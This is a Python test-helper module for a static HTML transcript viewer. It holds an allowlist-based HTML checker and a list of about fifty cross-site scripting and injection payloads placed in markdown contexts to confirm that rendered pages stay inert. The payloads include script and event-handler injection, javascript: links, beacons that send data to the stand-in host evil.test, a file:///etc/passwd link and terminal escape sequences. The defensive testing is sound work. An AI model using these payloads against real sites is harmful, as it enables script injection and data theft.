"""What the tests of the static copy share: transcripts, a reader of HTML, and payloads that an agent may print."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from fold import as_rows, fold
from nbstream.messages import TOOL_CALL_ID, TOOL_NAME, AgentMessage
from widget.rows import START, record

Block = dict[str, Any]

FINISHED = record("completed", completed_at=START + timedelta(seconds=58))

TAGS = frozenset(
    (  # noqa: SIM905
        "p h3 h4 h5 h6 ul ol li blockquote pre code em strong s table thead tbody tr th td hr br a span "
        "div details summary dl dt dd b small del ins style"
    ).split()
)
ATTRIBUTES = {
    "a": {"href", "rel", "target", "referrerpolicy"}, "ol": {"start"}, "th": {"align"}, "td": {"align"},
}  # fmt: skip
BLOCK_TAGS = TAGS - {"code", "em", "strong", "s", "a", "span", "b", "small", "del", "ins", "style"}


class Reader(HTMLParser):
    """Everything a browser would see; fails at what is off the lists, and at elements that are not closed in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.pres: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        off = {name for name, _ in attrs} - ATTRIBUTES.get(tag, set()) - {"class"}
        assert not off, (tag, off)
        for name, value in attrs:
            assert name != "href" or urlsplit(value or "").scheme in {"http", "https", "mailto"}, value
            self.links += [value or ""] if name == "href" else []
        self.tags.add(tag)
        if tag == "pre":
            self.pres.append("")
        if tag in BLOCK_TAGS:
            self.text += "\n"
        if tag not in {"br", "hr"}:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" in self.stack:
            return
        self.text += data
        if "pre" in self.stack:
            # The line end that opens a `<pre>` is not shown.
            self.pres[-1] += data.removeprefix("\n") if self.pres[-1] == "" else data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.stack == []
    return reader


def words(text: str) -> str:
    """`text` with every run of white space as one space: what a page makes of it."""
    return " ".join(text.split())


def blocks_of(rows: Iterable[AgentMessage]) -> list[Block]:
    """What the store's transcript holds for these rows."""
    rows = list(rows)
    times = {number: row.created_at for number, row in enumerate(rows, 1)}
    return [
        {
            **block,
            "created_at": times[block["sequence_number"]],
            "last_created_at": times[block["last_sequence_number"]],
        }
        for block in fold(as_rows(rows))
    ]


def text_block(content: str, **fields: Any) -> Block:
    return {"type": "assistant", "role": "assistant", "part": "text", "content": content, "metadata": {}, **fields}


def hostile_blocks(payload: str) -> list[Block]:
    """The payload in every place that an agent can fill."""
    metadata = {TOOL_NAME: payload, TOOL_CALL_ID: "c", "nbstream.kind": payload}
    edit = {"file_path": payload, "old_string": payload, "new_string": f"{payload}\n{payload}"}
    shapes: list[Block] = [
        {"type": "assistant", "role": "assistant", "part": "text"},
        {"type": "assistant", "role": "assistant", "part": "text", "content": f"```{payload}\n{payload}\n```\n`{payload}`"},
        {"type": "assistant", "role": "assistant", "part": "reasoning"},
        {"type": "user", "role": "user", "part": "text"},
        {"type": "tool", "role": "assistant", "part": "tool_call", "content": json.dumps({payload: payload, "x": payload})},
        {"type": "tool", "role": "tool", "part": "tool_call_response"},
        {"type": "tool", "role": "assistant", "part": "tool_call", "content": json.dumps(edit)},
        {"type": "tool", "role": "assistant", "part": "tool_call"},
        {"type": "assistant", "role": "assistant", "part": "text", "metadata": {"nbstream.parent_tool_call_id": "c"}},
        {"type": "system", "role": "system", "part": None},
        {"type": "error", "role": None, "part": None},
        {"type": "response", "role": None, "part": None},
    ]  # fmt: skip
    return [
        {"content": payload, "metadata": metadata, "created_at": START, "last_created_at": START, **shape}
        for shape in shapes
    ]


_LIVE = [
    "<script>window.pwned = alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/?q=secret>",
    "<svg onload=alert(1)>",
    "<svg><image href=https://evil.test/i.svg></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.test></iframe>",
    "<video poster=https://evil.test/p><source onerror=alert(1) src=x></video>",
    "<audio src=https://evil.test/a autoplay>",
    "<object data=https://evil.test/o></object><embed src=https://evil.test/e>",
    "<link rel=stylesheet href=https://evil.test/s.css><link rel=preload as=image href=https://evil.test/l>",
    "<style>@import 'https://evil.test'; body{background:url(https://evil.test/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>OK</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1) background=https://evil.test/b>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1) ping=https://evil.test>x</a>",
    "<button data-commandlinker-command=runmenu:run-all data-commandlinker-args='{}'>Run</button>",
    "<div id=cookie name=body style='position:fixed;inset:0;z-index:99999' class='jp-Dialog lm-Widget'>overlay</div>",
    "</pre></code></details></blockquote></div><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</summary></details><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onerror='alert(1)' src=x '",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<b>]]><!DOCTYPE x><?php x ?>",
    "\\<img src=x onerror=alert(1)\\>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "![x](https://evil.test/?q=1)",
    "![x][r]\n\n[r]: https://evil.test/r",
    "[![x](//evil.test/n)](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x/y) [d](vscode://x) [e](claude-cli://x)",
    "[a](/api/kernels) [b](//evil.test) [c](lab/tree/x) [d](?token=1) [e](#frag) [f](\\\\evil.test\\x)",
    "[a](https://user:pass@evil.test/) [github.com](https://evil.test) [https://bank.test](https://evil.test)",
    "<https://evil.test> <javascript:alert(1)> <mailto:a@b.c?x=<script>>",
    "[a](<https://evil.test/\" onclick=alert(1) x=\">) [b](https://evil.test/'onclick='alert(1))",
    "[a]: https://evil.test\n[b]: javascript:alert(1) 'x'\n\n[a][a] [b]",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$ \\(x\\)",
    "{{7*7}} ${alert(1)} <%= alert(1) %>",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x1b]52;c;YWxlcnQ=\x07 \x9b31m",
    "\u202ealert\u2066 \u200b\u200d \U000e0041\U000e0042",
    "~~~\n<b onclick=alert(1)>\n~~~~\n```\n</code></pre><iframe src=//evil.test>\n```\n<iframe>",
    "<nbs-x></nbs-x>\n\n| a |\n|-|\n| <img src=x onerror=alert(1)> |\n",
]  # fmt: skip

_AROUND = [
    "{}",
    "> - {}",
    "text {} text\n\n# {}",
    "| {} | b |\n|---|---|\n| {} | `{}` |",
    "````\n{}\n```\n{}",
    "<details>\n\n{}\n\n**{}**",
]

PAYLOADS = [shape.replace("{}", payload) for payload in _LIVE for shape in _AROUND]
"""Over 200 things that must stay words."""
